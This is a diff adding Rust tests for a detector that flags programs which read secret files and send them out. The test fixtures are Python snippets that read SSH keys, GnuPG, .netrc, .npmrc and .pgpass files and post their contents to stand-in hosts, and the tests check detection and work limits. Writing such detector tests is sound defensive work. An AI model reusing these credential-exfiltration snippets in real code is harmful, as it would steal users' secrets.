@@ -1,5 +1,13 @@
 use super::*;
 
+fn rules(text: &str) -> Vec<Rule> {
+    let files = [GatheredFile { path: "a.py", text, is_program: true }];
+    gathered(&files, &mut GATHERED_LIMITS.clone())
+        .into_iter()
+        .map(|found| found.chain.rule)
+        .collect()
+}
+
 fn found(files: &[(&str, &str)]) -> Vec<(usize, u32)> {
     let data = [".json", ".txt", ".yml", ".psd1"];
     let files: Vec<_> = files
@@ -10,7 +18,10 @@ fn found(files: &[(&str, &str)]) -> Vec<(usize, u32)> {
             is_program: !data.iter().any(|end| path.ends_with(end)),
         })
         .collect();
-    gathered(&files).into_iter().map(|found| (found.file, found.chain.last_line())).collect()
+    let mut limits = GATHERED_LIMITS;
+    let found = gathered(&files, &mut limits);
+    assert!(!limits.exhausted);
+    found.into_iter().map(|found| (found.file, found.chain.last_line())).collect()
 }
 
 #[test]
@@ -80,4 +91,60 @@ fn honest_programs_that_know_where_keys_lie_send_nothing_or_ask_where() {
     ] {
         assert_eq!(found(&[(path, text)]), [], "{path}");
     }
+}
+
+#[test]
+fn many_files_that_name_keys_and_send_cost_each_a_few_readings() {
+    let source = "p = ['~/.ssh', '~/.gnupg', '~/.pgpass']\nt = open(p).read()\n";
+    let sender = format!("{}requests.post(SINK, data=t)\n", "x.post(y)\n".repeat(200));
+    let texts: Vec<_> = (0..150)
+        .flat_map(|at| {
+            [
+                (format!("lib/take-{at}.py"), source.to_owned()),
+                (format!("lib/give_{at}.py"), sender.clone()),
+            ]
+        })
+        .chain([(
+            "main.sh".to_owned(),
+            "python3 lib/take-3.py\npython3 lib/give_7.py\n".to_owned(),
+        )])
+        .chain([("lib/sink.py".to_owned(), "SINK = 'https://in.example.invalid/x'\n".to_owned())])
+        .collect();
+    let files: Vec<_> =
+        texts.iter().map(|(path, text)| GatheredFile { path, text, is_program: true }).collect();
+    let mut limits = GATHERED_LIMITS;
+    let found = gathered(&files, &mut limits);
+    assert_eq!(found.iter().map(|found| found.file).collect::<Vec<_>>(), [15]);
+    assert!(!limits.exhausted);
+    let all: usize = texts.iter().map(|(_, text)| text.len()).sum();
+    let used = GATHERED_LIMITS.work - limits.work;
+    assert!(used < all * 24, "{used} bytes of work for {all}");
+    let mut few = Limits { work: all, ..GATHERED_LIMITS };
+    assert!(gathered(&files, &mut few).is_empty());
+    assert!(few.exhausted, "what is left out is told");
+}
+
+#[test]
+fn what_is_read_to_be_counted_is_in_doubt_and_what_is_handed_on_is_not() {
+    let head = "import re, requests\nfrom pathlib import Path\nP = [Path.home() / '.ssh/id_rsa', Path.home() / '.netrc', Path.home() / '.npmrc']\nhits = 0\nout = []\n";
+    let tail =
+        "requests.post('https://api.vendor.example/report', json={'hits': hits, 'out': out})\n";
+    for body in [
+        "for p in P:\n    text = p.read_text()\n    hits += len(re.findall('KEY', text))\n",
+        "for p in P:\n    with open(p) as f:\n        text = f.read()\n    if re.search('BEGIN', text):\n        hits += 1\n",
+        "for p in P:\n    hits += len(p.read_bytes())\n",
+    ] {
+        assert_eq!(rules(&format!("{head}{body}{tail}")), [Rule::GatheredInDoubt], "{body}");
+    }
+    for body in [
+        "for p in P:\n    text = p.read_text()\n    hits += len(text)\n    out.append(text)\n",
+        "for p in P:\n    out.append(p.read_text())\n",
+        "for p in P:\n    with open(p) as f:\n        out += f.readlines()\n",
+        "out = {p.name: p.read_text() for p in P}\nhits = len(out)\n",
+    ] {
+        assert_eq!(rules(&format!("{head}{body}{tail}")), [Rule::Gathered], "{body}");
+    }
+    let told = head.replace("'.npmrc']", "'.npmrc']  # never the sensitive ones");
+    let body = "out = [p.read_text() for p in P]\n";
+    assert_eq!(rules(&format!("{told}{body}{tail}")), [Rule::Gathered], "a comment keeps nobody");
 }
